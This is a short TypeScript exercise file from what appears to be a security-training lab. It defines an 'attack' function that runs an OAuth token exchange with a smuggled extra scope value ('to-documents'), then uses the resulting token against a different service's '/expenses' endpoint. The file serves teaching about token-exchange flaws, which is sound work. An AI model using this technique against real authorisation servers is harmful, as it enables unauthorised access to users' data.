import type { Kit } from '@lab/framework/learn'

export async function attack({ client, fetch, send }: Kit<'client' | 'fetch' | 'send'>) {
  const response = await fetch(client.tokenEndpoint, {
    method: 'POST',
    headers: { authorization: `Basic ${Buffer.from(`${client.id}:${client.secret}`).toString('base64')}` },
    body: new URLSearchParams({
      grant_type: 'urn:ietf:params:oauth:grant-type:token-exchange',
      subject_token: client.userToken,
      subject_token_type: 'urn:ietf:params:oauth:token-type:access_token',
      audience: 'documents',
      scope: 'documents:read to-documents',
    }),
  })
  const { access_token: token } = (await response.json()) as { access_token: string }

  await send('expenses', {
    method: 'GET',
    path: '/expenses',
    headers: { authorization: `Bearer ${token}` },
  })
}
